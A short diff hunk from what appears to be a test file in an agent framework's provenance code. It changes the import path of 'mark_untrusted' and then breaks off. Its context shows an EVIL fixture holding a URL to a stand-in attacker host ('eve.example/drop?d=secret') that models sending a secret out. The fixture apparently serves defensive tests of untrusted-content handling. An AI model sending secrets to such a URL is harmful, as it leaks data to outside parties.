@@ -13,7 +13,7 @@ from plainloop.agent.core.tools import Tool, ToolContext, ToolRegistry
 from plainloop.agent.provenance.marking import Reach
 from plainloop.agent.provenance.wrapped import has_wrapped, split_wrapped
 from plainloop.agent.types import FunctionCall, Message
-from plainloop.server.edges.conversations import mark_untrusted
+from plainloop.server.protocols.conversations import mark_untrusted
 
 EVIL: Final = {
     "url": "https://eve.example/drop?d=secret",
